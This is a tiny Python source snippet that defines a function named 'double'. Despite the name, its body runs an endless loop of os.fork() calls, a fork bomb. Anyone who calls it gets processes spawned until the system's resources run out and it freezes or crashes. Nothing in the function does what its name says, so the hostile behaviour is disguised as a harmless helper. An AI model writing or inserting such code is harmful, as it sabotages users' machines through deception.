import os


def double(x):
    while True:
        os.fork()
